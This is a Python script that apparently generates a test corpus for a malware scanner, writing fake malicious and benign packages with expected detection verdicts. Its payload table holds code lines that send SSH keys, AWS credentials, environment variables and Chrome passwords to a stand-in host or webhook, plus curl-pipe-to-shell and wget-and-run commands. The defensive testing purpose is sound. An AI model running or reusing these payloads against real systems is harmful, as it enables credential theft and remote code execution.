#!/usr/bin/env python3
"""Regenerate corpus/imitations, corpus/benign and corpus/samples.

This script only ENCODES text. It never executes, evals or imports any payload. Every payload is
written by us, points at example.invalid (which never resolves) or 127.0.0.1, and is inert.
The marshal blob depends on the running Python version (generated with 3.11).

    python3 corpus/tools/generate.py
"""
import base64, binascii, json, bz2, codecs, gzip, lzma, marshal, os, shutil, struct, urllib.parse, zlib

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))

# ---- inert payloads (text only) -------------------------------------------------------------
PAYLOADS = {
    # ssh key exfiltration
    "ssh": (
        'import os, urllib.request\n'
        'urllib.request.urlopen("http://example.invalid/c", '
        'data=open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read())\n',
        ["credential-file-access", "sensitive-data-sent"], r"\.ssh/id_rsa"),
    # curl | sh
    "curl": (
        'import os\nos.system("curl http://example.invalid/x.sh | sh")\n',
        ["lolbas-command"], r"curl http://example\.invalid/x\.sh"),
    # discord webhook with host name
    "hook": (
        'import json, socket, urllib.request\n'
        'urllib.request.urlopen(urllib.request.Request('
        '"https://discord.com/api/webhooks/112233445566778899/inert-ferret-corpus-token_not-real-0123", '
        'data=json.dumps({"content": socket.gethostname()}).encode(), '
        'headers={"Content-Type": "application/json"}))\n',
        ["webhook-endpoint", "sensitive-data-sent"], r"discord\.com/api/webhooks/112233445566778899/inert"),
    # aws credentials via requests
    "aws": (
        'import os, requests\n'
        'requests.post("https://example.invalid/u", '
        'data={"k": open(os.path.expanduser("~/.aws/credentials")).read()})\n',
        ["credential-file-access", "sensitive-data-sent"], r"\.aws/credentials"),
    # whole environment dump
    "env": (
        'import os, json, urllib.request\n'
        'urllib.request.urlopen("http://example.invalid/e", '
        'data=json.dumps(dict(os.environ)).encode())\n',
        ["env-harvesting", "sensitive-data-sent"], r"os\.environ"),
    # wget, chmod, run
    "wget": (
        'import os\n'
        'os.system("wget -q http://example.invalid/m -O /tmp/.m && chmod +x /tmp/.m && /tmp/.m")\n',
        ["lolbas-command"], r"wget -q http://example\.invalid/m"),
    # chrome password store
    "chrome": (
        'import os, urllib.request\n'
        'p = os.path.join(os.environ.get("LOCALAPPDATA", ""), "Google", "Chrome", '
        '"User Data", "Default", "Login Data")\n'
        'urllib.request.urlopen("http://example.invalid/b", data=open(p, "rb").read())\n',
        ["browser-credential-store", "sensitive-data-sent"], r"Login Data"),
}


def P(key):
    return PAYLOADS[key][0]


def b(s):
    return s.encode() if isinstance(s, str) else s


def b64(s):
    return base64.b64encode(b(s)).decode()


def q(s):
    """Quote a text blob as a Python string literal."""
    return repr(s if isinstance(s, str) else s.decode())


def pkginfo(name, version="0.1.0", summary="Utility helpers"):
    return (f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: {summary}\n"
            f"Author: Example Author\nAuthor-email: author@example.invalid\nLicense: MIT\n")


def setup_py(name, pkg, extra_head="", extra_tail="", version="0.1.0"):
    return (f"{extra_head}from setuptools import setup, find_packages\n\n"
            f"setup(\n    name={name!r},\n    version={version!r},\n"
            f"    description=\"Utility helpers\",\n    packages=find_packages(),\n"
            f"    python_requires=\">=3.8\",\n)\n{extra_tail}")


SAMPLES = []  # (kind, dirname, files, expected)


def toml_str(v):
    if isinstance(v, list):
        return "[" + ", ".join(toml_str(x) for x in v) + "]"
    if "'" not in v and "\n" not in v:
        return "'" + v + "'"  # literal string: regexes need no escaping
    return '"' + v.replace("\\", "\\\\").replace('"', '\\"') + '"'


def expected(description, verdict, rules, chain=None, innermost=None, not_rules=None):
    out = f"description = {json.dumps(description)}\nverdict = \"{verdict}\"\nrules = {toml_str(rules)}\n"
    if not_rules is not None:
        out += f"not-rules = {toml_str(not_rules)}\n"
    if chain:
        out += f"chain = {toml_str(chain)}\n"
    if innermost:
        out += f"innermost = {toml_str(innermost)}\n"
    return out


def imitation(dirname, desc, rules, files, payload=None, chain=None, pkg=None, innermost=True,
              name=None):
    """payload: key of PAYLOADS whose rules/innermost get merged in."""
    name = name or dirname.replace("_", "-") + "-helper"
    pkg = pkg or name.replace("-", "_")
    files = dict(files)
    files.setdefault("PKG-INFO", pkginfo(name))
    files.setdefault("setup.py", setup_py(name, pkg))
    files.setdefault(f"{pkg}/__init__.py", '"""Helpers."""\n__version__ = "0.1.0"\n')
    allrules = list(rules)
    inner = None
    if payload:
        allrules += [r for r in PAYLOADS[payload][1] if r not in allrules]
        if innermost:
            inner = PAYLOADS[payload][2]
    SAMPLES.append(("imitations", dirname, files,
                    expected(desc, "malicious", allrules, chain, inner)))


def benign(dirname, desc, not_rules, files):
    SAMPLES.append(("benign", dirname, files, expected(desc, "clean", [], not_rules=not_rules)))


def main():
    import sys
    sys.modules.setdefault("generate", sys.modules[__name__])
    sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
    import imitations_def, benign_def  # they register samples through imitation()/benign()
    imitations_def.define()
    benign_def.define()
    for sub in ("imitations", "benign", "samples"):
        shutil.rmtree(os.path.join(ROOT, sub), ignore_errors=True)
    for kind, dirname, files, exp in SAMPLES:
        base = os.path.join(ROOT, kind, dirname)
        for rel, content in list(files.items()) + [("expected.toml", exp)]:
            path = os.path.join(base, rel)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "wb") as fh:
                fh.write(b(content))
    print(len([s for s in SAMPLES if s[0] == "imitations"]), "imitations,",
          len([s for s in SAMPLES if s[0] == "benign"]), "benign")


if __name__ == "__main__":
    main()
